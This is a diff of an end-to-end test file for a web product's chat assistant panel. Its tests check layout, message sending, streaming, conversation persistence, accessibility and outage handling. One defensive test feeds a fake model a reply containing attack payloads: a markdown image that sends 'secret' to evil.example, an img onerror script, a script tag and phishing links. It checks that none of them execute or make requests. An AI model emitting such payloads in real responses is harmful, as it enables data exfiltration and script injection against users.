@@ -1,6 +1,7 @@
 import type { Locator, Page } from 'playwright-core'
-import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
 import { type FakeModel, startFakeModel } from '#test/fakes/language-model.ts'
+import { rowsOf } from '#test/product/invariants.ts'
 import { type Product, startProduct } from '#test/product/product.ts'
 import { violationsOf } from './axe.ts'
 import { hydrated, openBrowser, type Person } from './person.ts'
@@ -9,6 +10,7 @@ let product: Product
 let browser: Awaited<ReturnType<typeof openBrowser>>
 let member: Person
 let page: Page
+let complaints: string[]
 let panel: Locator
 let field: Locator
 
@@ -16,16 +18,23 @@ beforeAll(async () => {
   product = await startProduct({ DEMO: '1' })
   browser = await openBrowser()
   member = await browser.person()
-  page = member.page
-  await page.goto(product.demoLink())
-  await page.waitForURL('**/dashboard')
-  panel = page.getByRole('dialog', { name: 'Assistant' })
-  field = panel.getByLabel('Message')
+  await member.page.goto(product.demoLink())
+  await member.page.waitForURL('**/dashboard')
+  await member.page.goto('about:blank')
 })
 afterAll(async () => {
   await browser?.close()
   await product?.stop()
 })
+
+/** Another page of a signed-in user without a conversation. */
+async function openDashboard(person: Person, { url, database }: Product) {
+  await rowsOf(database.ownerUrl, 'delete from chat_messages')
+  const opened = await person.openPage()
+  await opened.page.goto(`${url}/dashboard`)
+  await hydrated(opened.page)
+  return opened
+}
 
 const log = () => panel.getByRole('log')
 const questions = () => log().getByText('You:')
@@ -41,8 +50,28 @@ async function faults(on: Page, within: string): Promise<string[]> {
 const tell = (detail?: { open: boolean }) =>
   page.evaluate((open) => void window.dispatchEvent(new CustomEvent('open-chat', { detail: open })), detail)
 
+async function openPanel(): Promise<void> {
+  await page.getByRole('button', { name: 'Ask the assistant' }).click()
+  await panel.waitFor()
+}
+
+/** Opens the panel, and asks what is known. */
+async function askAboutScores(): Promise<void> {
+  await openPanel()
+  await field.fill('What does a score of 75 mean?')
+  await field.press('Enter')
+  await log().getByText('one-in-three').waitFor()
+}
+
 describe('A22 the assistant', () => {
-  test('opens at the bottom right in its size, and greets', async () => {
+  beforeEach(async () => {
+    ;({ page, complaints } = await openDashboard(member, product))
+    panel = page.getByRole('dialog', { name: 'Assistant' })
+    field = panel.getByLabel('Message')
+  })
+  afterEach(() => page.close())
+
+  test('opens at the bottom right in the specified size with a greeting', async () => {
     await page.getByRole('button', { name: 'Ask the assistant' }).click()
     await panel.waitFor()
     expect(await panel.boundingBox()).toMatchObject({ width: 384, height: 500 })
@@ -51,7 +80,8 @@ describe('A22 the assistant', () => {
     await panel.getByText('Answers from the documentation and your contacts').waitFor()
   })
 
-  test('sends with Enter, breaks the line with Shift and Enter, and sends no blank', async () => {
+  test('sends with Enter, breaks lines with Shift+Enter, and sends no blank messages', async () => {
+    await openPanel()
     await field.fill('   ')
     await field.press('Enter')
     await panel.getByRole('button', { name: 'Send' }).click()
@@ -70,7 +100,8 @@ describe('A22 the assistant', () => {
     expect(await field.inputValue()).toBe('')
   })
 
-  test('says Thinking... and takes nothing while it does; each message scrolls to the end', async () => {
+  test('shows Thinking... and accepts no input meanwhile; each message scrolls to the end', async () => {
+    await askAboutScores()
     let answer = () => {}
     const held = new Promise<void>((resolve) => {
       answer = resolve
@@ -96,12 +127,13 @@ describe('A22 the assistant', () => {
     await page.waitForFunction(() => document.activeElement?.tagName === 'TEXTAREA')
   })
 
-  test('opens and closes from outside, by its button and by Escape, and keeps the conversation', async () => {
+  test('opens and closes by event, button and Escape without losing the conversation', async () => {
+    await askAboutScores()
     await tell({ open: false })
     await panel.waitFor({ state: 'hidden' })
     await tell()
     await panel.waitFor()
-    expect(await questions().count()).toBe(2)
+    expect(await questions().count()).toBe(1)
     await panel.getByRole('button', { name: 'Close' }).click()
     await panel.waitFor({ state: 'hidden' })
     await tell({ open: true })
@@ -110,10 +142,8 @@ describe('A22 the assistant', () => {
     await panel.waitFor({ state: 'hidden' })
   })
 
-  test('says whom to call, and leads to them', async () => {
-    await panel.waitFor({ state: 'hidden' })
-    await tell()
-    await panel.getByRole('button', { name: 'New conversation' }).click()
+  test('answers whom to call with links to them', async () => {
+    await openPanel()
     await panel.getByRole('button', { name: 'Who should I call this week?' }).click()
     await log().getByText('Call these first').waitFor()
     const first = log().getByRole('link').first()
@@ -125,7 +155,10 @@ describe('A22 the assistant', () => {
     await page.getByRole('dialog', { name }).waitFor({ state: 'hidden' })
   })
 
-  test('shows the conversation after a reload and in a second tab, until a new one begins', async () => {
+  test('shows the conversation after a reload and in a second tab until a new one starts', async () => {
+    await openPanel()
+    await panel.getByRole('button', { name: 'Who should I call this week?' }).click()
+    await log().getByText('Call these first').waitFor()
     await page.reload()
     await hydrated(page)
     const second = await page.context().newPage()
@@ -143,7 +176,7 @@ describe('A22 the assistant', () => {
     expect(await questions().count()).toBe(0)
   })
 
-  test('keeps a question until what was said before is there, and shows its answer once', async () => {
+  test('queues a question until earlier messages are loaded, and shows its answer once', async () => {
     let arrive = () => {}
     const before = new Promise<void>((resolve) => {
       arrive = resolve
@@ -167,45 +200,57 @@ describe('A22 the assistant', () => {
     await tab.close()
   })
 
-  test('is a sheet over the full width on a phone', async () => {
+  test('is a full-width sheet on a phone', async () => {
     await page.setViewportSize({ width: 390, height: 844 })
-    await tell()
+    await openPanel()
     const box = await panel.boundingBox()
     expect([box?.x, box?.width, (box?.y ?? 0) + (box?.height ?? 0)]).toEqual([0, 390, 844])
-    await page.setViewportSize({ width: 1440, height: 900 })
   })
 
-  test.each(['light', 'dark'])('A33 axe finds nothing wrong with it in the %s theme', async (theme) => {
+  test.each(['light', 'dark'])('A33 has no accessibility faults in the %s theme', async (theme) => {
+    await askAboutScores()
     await page.evaluate((value) => {
       document.documentElement.dataset.theme = value
     }, theme)
     expect(await faults(page, 'aside')).toEqual([])
   })
 
-  test('A36 says that it has trouble when the product is away, and where support is', async () => {
+  test('A36 reports an outage and names support', async () => {
+    await openPanel()
     await product.kill()
-    await field.fill('Are you there?')
-    await field.press('Enter')
-    await log()
-      .getByText(
-        "I'm having trouble responding right now. Please try again or contact support at support@ninefold.example.",
-      )
-      .waitFor()
-    expect(member.complaints.join()).toContain('The assistant could not answer')
-    expect(await field.isEnabled()).toBe(true)
-    await product.restart()
+    try {
+      await field.fill('Are you there?')
+      await field.press('Enter')
+      await log()
+        .getByText(
+          "I'm having trouble responding right now. Please try again or contact support at support@ninefold.example.",
+        )
+        .waitFor()
+      expect(complaints.join()).toContain('The assistant could not answer')
+      expect(await field.isEnabled()).toBe(true)
+    } finally {
+      await product.restart()
+    }
   })
 })
 
 describe('A22 the assistant with a connected model', () => {
   let fake: FakeModel
   let connected: Product
+  let user: Person
   let asking: Page
-  const foreign: string[] = []
+  let foreign: string[]
   beforeAll(async () => {
     fake = await startFakeModel()
     connected = await startProduct({ DEMO: '1', LLM_BASE_URL: fake.url, LLM_MODEL: 'test-model' })
-    asking = (await browser.person()).page
+    user = await browser.person()
+    await user.page.goto(connected.demoLink())
+    await user.page.waitForURL('**/dashboard')
+  })
+  beforeEach(async () => {
+    fake.reset()
+    foreign = []
+    asking = (await openDashboard(user, connected)).page
     asking.on('request', (request) => {
       if (!request.url().startsWith(connected.url)) foreign.push(request.url())
     })
@@ -213,10 +258,9 @@ describe('A22 the assistant with a connected model', () => {
       foreign.push(dialog.message())
       void dialog.dismiss()
     })
-    await asking.goto(connected.demoLink())
-    await asking.waitForURL('**/dashboard')
     await asking.getByRole('button', { name: 'Ask the assistant' }).click()
   })
+  afterEach(() => asking.close())
   afterAll(async () => {
     await connected?.stop()
     await fake?.stop()
@@ -227,27 +271,27 @@ describe('A22 the assistant with a connected model', () => {
   }
   const replies = () => asking.getByRole('log')
 
-  test('shows its words as they come, and says whose they are', async () => {
-    await asking.getByText('Answers by test-model; numbers are checked').waitFor()
+  test('streams the answer and names its source', async () => {
+    await asking.getByText('Answered by test-model. We check the numbers.').waitFor()
     let goOn = () => {}
     const held = new Promise<void>((resolve) => {
       goOn = resolve
     })
     fake.answer({ pieces: ['A score of 75 is a one-in-three chance. It', held, ' is not 75 percent.'] })
     await ask('What does a score of 75 mean?')
-    const soFar = replies().locator('[aria-hidden="true"]', {
+    const partialReply = replies().locator('[aria-hidden="true"]', {
       hasText: 'A score of 75 is a one-in-three chance.',
     })
-    await soFar.waitFor()
+    await partialReply.waitFor()
     await replies().getByText('Thinking...').waitFor()
     expect(await asking.getByLabel('Message').isDisabled()).toBe(true)
     goOn()
     await replies().getByText('A score of 75 is a one-in-three chance. It is not 75 percent.').waitFor()
     await replies().getByRole('link', { name: 'How the score works: What 75 means' }).waitFor()
-    expect(await soFar.count()).toBe(0)
+    expect(await partialReply.count()).toBe(0)
   })
 
-  test('Trust 15 shows an attack as text: nothing runs, and nothing is asked for', async () => {
+  test('Trust 15 shows an attack as text that runs and requests nothing', async () => {
     fake.answer(
       'Steps. ![x](https://evil.example/p.png?d=secret) <img src="https://evil.example/i" onerror="alert(document)"> <script>alert(document)</script> See [the plan](https://evil.example/login) or evil.com/pay.',
     )
@@ -263,7 +307,7 @@ describe('A22 the assistant with a connected model', () => {
     expect(foreign).toEqual([])
   })
 
-  test('puts the embedded answer in the place of one with an invented figure, and of none', async () => {
+  test('shows the template answer instead of an invented figure or no answer', async () => {
     fake.answer('Call everybody. It works in 97 percent of cases.')
     await ask('Who should I call this week?')
     await replies().getByText('Call these first').waitFor()
@@ -275,7 +319,7 @@ describe('A22 the assistant with a connected model', () => {
   })
 })
 
-test('A37 the free account is explained and leads to the sign-in dialog', async () => {
+test('A37 the free account page explains it and opens the sign-in dialog', async () => {
   const visitor = await browser.person()
   const answer = await visitor.page.request.get(`${product.url}/free-signup`)
   expect(await answer.text()).toContain('Start with a free account')
